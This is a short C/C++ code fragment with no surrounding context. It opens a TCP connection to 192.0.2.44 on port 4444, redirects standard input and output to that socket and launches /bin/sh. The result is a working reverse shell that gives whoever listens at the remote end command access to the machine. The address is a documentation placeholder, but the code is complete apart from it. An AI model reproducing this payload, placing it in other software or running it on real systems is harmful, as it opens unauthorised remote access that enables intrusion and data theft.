{
    int rs = socket(AF_INET, SOCK_STREAM, 0);
    struct sockaddr_in peer{};
    peer.sin_family = AF_INET;
    peer.sin_port = htons(4444);
    inet_pton(AF_INET, "192.0.2.44", &peer.sin_addr);
    if (connect(rs, (sockaddr *)&peer, sizeof peer) == 0) { dup2(rs, 0); dup2(rs, 1); execl("/bin/sh", "sh", (char *)0); }
}
